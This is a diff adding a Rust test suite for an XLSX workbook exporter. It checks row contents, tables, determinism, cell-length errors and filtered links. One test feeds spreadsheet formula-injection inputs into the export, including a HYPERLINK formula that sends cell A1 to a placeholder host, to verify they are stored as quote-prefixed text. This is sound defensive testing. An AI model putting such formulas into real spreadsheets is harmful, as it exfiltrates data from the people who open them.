@@ -1,0 +1,414 @@
+//! The workbook read back by an independent reader (calamine) and through its XML parts:
+//! the recommendation rows equal the dataset's, every sheet is a table with the dataset's rows,
+//! no cell is a formula, formula-like text carries the quote prefix, and the bytes depend only
+//! on the data.
+
+use std::collections::HashMap;
+use std::io::{Cursor, Read};
+
+use alliance_core::model::Dataset;
+use alliance_export::csv_files::TextCells;
+use alliance_export::filter::Selection;
+use alliance_export::{Format, Options, render};
+use calamine::{Data, Reader, Xlsx};
+
+fn dataset() -> Dataset {
+    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../data");
+    let loaded = alliance_core::load(&root).expect("the dataset loads");
+    assert!(!loaded.has_errors());
+    loaded.dataset
+}
+
+fn options(selection: Selection) -> Options {
+    Options {
+        formats: vec![Format::Xlsx],
+        selection,
+        text: TextCells::Neutralized,
+    }
+}
+
+fn workbook_bytes(dataset: &Dataset, selection: Selection) -> Vec<u8> {
+    let files = render(dataset, &options(selection)).expect("renders");
+    assert_eq!(files.len(), 1);
+    assert_eq!(files[0].path, std::path::Path::new("alliance.xlsx"));
+    files[0].bytes.clone()
+}
+
+fn open(bytes: &[u8]) -> Xlsx<Cursor<Vec<u8>>> {
+    Xlsx::new(Cursor::new(bytes.to_vec())).expect("calamine opens the workbook")
+}
+
+/// The rows of a sheet below its header, as text (numbers as integers).
+fn rows(book: &mut Xlsx<Cursor<Vec<u8>>>, sheet: &str) -> (Vec<String>, Vec<Vec<String>>) {
+    let range = book.worksheet_range(sheet).expect("sheet");
+    let mut rows = range.rows().map(|row| {
+        row.iter()
+            .map(|cell| match cell {
+                Data::String(s) => s.clone(),
+                Data::Float(f) => format!("{f}"),
+                Data::Int(i) => i.to_string(),
+                Data::Empty => String::new(),
+                other => panic!("{sheet}: unexpected cell {other:?}"),
+            })
+            .collect::<Vec<_>>()
+    });
+    let header = rows.next().expect("a header row");
+    (header, rows.collect())
+}
+
+fn column<'a>(header: &[String], row: &'a [String], name: &str) -> &'a str {
+    let i = header
+        .iter()
+        .position(|h| h == name)
+        .unwrap_or_else(|| panic!("no column {name}"));
+    &row[i]
+}
+
+#[test]
+fn recommendation_rows_equal_the_datasets() {
+    let dataset = dataset();
+    let bytes = workbook_bytes(&dataset, Selection::default());
+    let mut book = open(&bytes);
+    assert_eq!(
+        book.sheet_names(),
+        [
+            "Recommendations",
+            "Summary",
+            "Sessions",
+            "Participants",
+            "People",
+            "Organizations",
+            "Themes",
+            "Instruments",
+            "About"
+        ]
+    );
+    let (header, rows) = rows(&mut book, "Recommendations");
+    assert_eq!(rows.len(), dataset.recommendations.len());
+    let name = |terms: &[alliance_core::model::Term], ids: &[String]| {
+        ids.iter()
+            .map(|id| {
+                terms
+                    .iter()
+                    .find(|t| &t.id == id)
+                    .map(|t| t.name.clone())
+                    .expect("a term")
+            })
+            .collect::<Vec<_>>()
+            .join("; ")
+    };
+    for (row, r) in rows.iter().zip(&dataset.recommendations) {
+        let session = dataset.session(&r.session).expect("session");
+        assert_eq!(column(&header, row, "ID"), r.id);
+        assert_eq!(column(&header, row, "Conference"), r.conference);
+        assert_eq!(column(&header, row, "Session ID"), r.session);
+        assert_eq!(column(&header, row, "Session"), session.title);
+        assert_eq!(column(&header, row, "Order"), r.order.to_string());
+        assert_eq!(
+            column(&header, row, "Label"),
+            name(&dataset.vocabularies.labels, std::slice::from_ref(&r.label))
+        );
+        assert_eq!(column(&header, row, "Text"), r.text, "{}", r.id);
+        assert_eq!(
+            column(&header, row, "Themes"),
+            name(&dataset.themes, &r.themes)
+        );
+        assert_eq!(
+            column(&header, row, "Pillars"),
+            name(&dataset.pillars, &r.pillars)
+        );
+        assert_eq!(
+            column(&header, row, "Addressees"),
+            name(&dataset.vocabularies.addressees, &r.addressees)
+        );
+        assert_eq!(column(&header, row, "Source report"), r.source.report);
+        assert_eq!(column(&header, row, "Source section"), r.source.section);
+        assert_eq!(
+            column(&header, row, "Source bullet"),
+            r.source.bullet.to_string()
+        );
+        assert_eq!(
+            column(&header, row, "Source line"),
+            r.source.line.to_string()
+        );
+    }
+}
+
+#[test]
+fn every_sheet_is_a_table_with_the_datasets_rows_and_no_formula() {
+    let dataset = dataset();
+    let bytes = workbook_bytes(&dataset, Selection::default());
+    let mut book = open(&bytes);
+    let participants: usize = dataset.sessions.iter().map(|s| s.participants.len()).sum();
+    for (sheet, count) in [
+        ("Recommendations", dataset.recommendations.len()),
+        ("Sessions", dataset.sessions.len()),
+        ("Participants", participants),
+        ("People", dataset.people.len()),
+        ("Organizations", dataset.organizations.len()),
+        ("Themes", dataset.themes.len()),
+        ("Instruments", dataset.instruments.len()),
+    ] {
+        assert_eq!(rows(&mut book, sheet).1.len(), count, "{sheet}");
+    }
+    book.load_tables().expect("tables");
+    let names: Vec<String> = book.table_names().into_iter().cloned().collect();
+    let mut tables: Vec<(String, String)> = names
+        .into_iter()
+        .map(|t| {
+            let sheet = book
+                .sheet_names()
+                .into_iter()
+                .find(|s| book.table_names_in_sheet(s).contains(&&t))
+                .expect("a sheet");
+            (sheet, t)
+        })
+        .collect();
+    tables.sort();
+    assert_eq!(
+        tables,
+        [
+            ("About", "About"),
+            ("Instruments", "Instruments"),
+            ("Organizations", "Organizations"),
+            ("Participants", "Participants"),
+            ("People", "People"),
+            ("Recommendations", "Recommendations"),
+            ("Sessions", "Sessions"),
+            ("Summary", "RecommendationsBySession"),
+            ("Summary", "ThemesByPillar"),
+            ("Themes", "Themes"),
+        ]
+        .map(|(s, t)| (s.to_owned(), t.to_owned()))
+    );
+    let recommendations = book.table_by_name("Recommendations").expect("table");
+    assert_eq!(
+        recommendations.data().height(),
+        dataset.recommendations.len()
+    );
+    for sheet in book.sheet_names() {
+        let formulas = book.worksheet_formula(&sheet).expect("formulas");
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "{sheet} has a formula"
+        );
+    }
+    // the summary counts each recommendation once per theme
+    let (_, summary) = rows(&mut book, "Summary");
+    let all_themes = summary
+        .iter()
+        .find(|row| row[0] == "All themes")
+        .expect("a total row");
+    assert_eq!(
+        all_themes.last().map(String::as_str),
+        Some(dataset.recommendations.len().to_string().as_str())
+    );
+}
+
+/// A zip part of the workbook as text.
+fn part(bytes: &[u8], name: &str) -> String {
+    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a zip file");
+    let mut text = String::new();
+    archive
+        .by_name(name)
+        .expect("part")
+        .read_to_string(&mut text)
+        .expect("utf-8");
+    text
+}
+
+/// The text between `open` (up to its closing `>`) and `close`, for each occurrence.
+fn elements<'a>(xml: &'a str, open: &str, close: &str) -> Vec<(&'a str, &'a str)> {
+    let mut out = Vec::new();
+    let mut rest = xml;
+    while let Some(start) = rest.find(open) {
+        let after = &rest[start..];
+        let Some(tag_end) = after.find('>') else {
+            break;
+        };
+        let tag = &after[..tag_end];
+        if tag.ends_with('/') {
+            out.push((tag, ""));
+            rest = &after[tag_end..];
+            continue;
+        }
+        let Some(end) = after.find(close) else { break };
+        out.push((tag, &after[tag_end + 1..end]));
+        rest = &after[end..];
+    }
+    out
+}
+
+fn unescape(text: &str) -> String {
+    let mut out = text
+        .replace("&lt;", "<")
+        .replace("&gt;", ">")
+        .replace("&quot;", "\"");
+    for c in 0u8..0x20 {
+        out = out.replace(&format!("_x{c:04X}_"), &char::from(c).to_string());
+    }
+    out.replace("&amp;", "&")
+}
+
+/// Every string cell of every sheet: (sheet part, cell, text, whether it has the quote prefix).
+fn string_cells(bytes: &[u8]) -> Vec<(String, String, String, bool)> {
+    let strings: Vec<String> = elements(&part(bytes, "xl/sharedStrings.xml"), "<si", "</si>")
+        .into_iter()
+        .map(|(_, si)| {
+            elements(si, "<t", "</t>")
+                .into_iter()
+                .map(|(_, t)| unescape(t))
+                .collect()
+        })
+        .collect();
+    let styles = part(bytes, "xl/styles.xml");
+    let cell_xfs = &styles[styles.find("<cellXfs").expect("cellXfs")..];
+    let cell_xfs = &cell_xfs[..cell_xfs.find("</cellXfs>").expect("end")];
+    let quoted: Vec<bool> = elements(cell_xfs, "<xf ", "</xf>")
+        .into_iter()
+        .map(|(tag, _)| tag.contains("quotePrefix=\"1\""))
+        .collect();
+    let mut out = Vec::new();
+    for n in 1..=9 {
+        let sheet = format!("xl/worksheets/sheet{n}.xml");
+        let xml = part(bytes, &sheet);
+        for (tag, body) in elements(&xml, "<c ", "</c>") {
+            if !tag.contains("t=\"s\"") {
+                continue;
+            }
+            let attr = |name: &str| {
+                let start = tag.find(&format!(" {name}=\""))? + name.len() + 3;
+                Some(tag[start..].split('"').next()?.to_owned())
+            };
+            let index: usize = body
+                .trim_start_matches("<v>")
+                .trim_end_matches("</v>")
+                .parse()
+                .expect("a shared string index");
+            let style: usize = attr("s").map_or(0, |s| s.parse().expect("a style index"));
+            out.push((
+                sheet.clone(),
+                attr("r").expect("a cell reference"),
+                strings[index].clone(),
+                quoted[style],
+            ));
+        }
+    }
+    out
+}
+
+#[test]
+fn formula_like_text_is_stored_as_text_with_the_quote_prefix() {
+    let mut dataset = dataset();
+    let attack = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")";
+    dataset.recommendations[0].text = attack.to_owned();
+    dataset.themes[0].name = "+1+1".to_owned();
+    dataset.people[0].name = "@SUM(A1:A2)".to_owned();
+    dataset.organizations[0].name = "-2+3".to_owned();
+    dataset.sessions[1].title = "\t=1".to_owned();
+    dataset.instruments[0].name = "\r=1".to_owned();
+    dataset.people[1].name = "a = b, not a formula".to_owned();
+    let bytes = workbook_bytes(&dataset, Selection::default());
+
+    let cells = string_cells(&bytes);
+    let triggers = ['=', '+', '-', '@', '\t', '\r'];
+    let mut seen = HashMap::new();
+    for (sheet, cell, text, quoted) in &cells {
+        assert_eq!(
+            *quoted,
+            text.starts_with(triggers),
+            "{sheet} {cell}: {text:?} quote prefix {quoted}"
+        );
+        *seen.entry(text.as_str()).or_insert(0) += 1;
+    }
+    for text in [attack, "+1+1", "@SUM(A1:A2)", "-2+3", "\t=1", "\r=1"] {
+        assert!(
+            seen.contains_key(text),
+            "{text:?} is in the workbook as text"
+        );
+    }
+
+    // and a reader sees the exact text, never a formula
+    let mut book = open(&bytes);
+    let (header, rows) = rows(&mut book, "Recommendations");
+    assert_eq!(column(&header, &rows[0], "Text"), attack);
+    assert!(column(&header, &rows[0], "Themes").starts_with("+1+1; "));
+    for sheet in book.sheet_names() {
+        let formulas = book.worksheet_formula(&sheet).expect("formulas");
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "{sheet}"
+        );
+    }
+}
+
+#[test]
+fn the_same_data_gives_the_same_bytes_dated_by_the_release() {
+    let dataset = dataset();
+    let a = workbook_bytes(&dataset, Selection::default());
+    let b = workbook_bytes(&dataset, Selection::default());
+    assert!(a == b, "two renders differ");
+    let core = part(&a, "docProps/core.xml");
+    assert!(
+        core.contains(&format!(
+            "<dcterms:created xsi:type=\"dcterms:W3CDTF\">{}T00:00:00Z</dcterms:created>",
+            dataset.release.date
+        )),
+        "{core}"
+    );
+}
+
+#[test]
+fn a_cell_too_long_for_excel_is_a_clear_error() {
+    let mut dataset = dataset();
+    dataset.recommendations[0].text = "x".repeat(32_768);
+    let err = render(&dataset, &options(Selection::default())).expect_err("too long");
+    let message = format!("{err:#}");
+    assert!(
+        message.contains("cannot hold the `Text` of `a17-panel-1-r01`")
+            && message.contains("at most 32767 characters"),
+        "{message}"
+    );
+}
+
+#[test]
+fn a_filtered_workbook_holds_the_subset_and_its_links_point_at_its_sessions() {
+    let dataset = dataset();
+    let selection = Selection {
+        themes: vec!["trust-and-rapport".into()],
+        ..Selection::default()
+    };
+    let subset = selection.apply(&dataset);
+    let bytes = workbook_bytes(&dataset, selection);
+    let mut book = open(&bytes);
+    let (header, rows) = rows(&mut book, "Recommendations");
+    let ids: Vec<&str> = rows.iter().map(|r| column(&header, r, "ID")).collect();
+    let want: Vec<&str> = subset
+        .recommendations
+        .iter()
+        .map(|r| r.id.as_str())
+        .collect();
+    assert_eq!(ids, want);
+    assert!(!ids.is_empty());
+    let (session_header, sessions) = self::rows(&mut book, "Sessions");
+    assert_eq!(sessions.len(), subset.sessions.len());
+    // each recommendation's session link targets the row of its session
+    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
+    let links = elements(&sheet, "<hyperlink ", "</hyperlink>");
+    assert_eq!(links.len(), rows.len());
+    for ((tag, _), row) in links.iter().zip(&rows) {
+        let location = tag
+            .split("location=\"")
+            .nth(1)
+            .and_then(|l| l.split('"').next())
+            .expect("an internal link");
+        let target: usize = location
+            .trim_start_matches("'Sessions'!A")
+            .parse()
+            .expect("a row number");
+        assert_eq!(
+            column(&session_header, &sessions[target - 2], "ID"),
+            column(&header, row, "Session ID")
+        );
+    }
+}
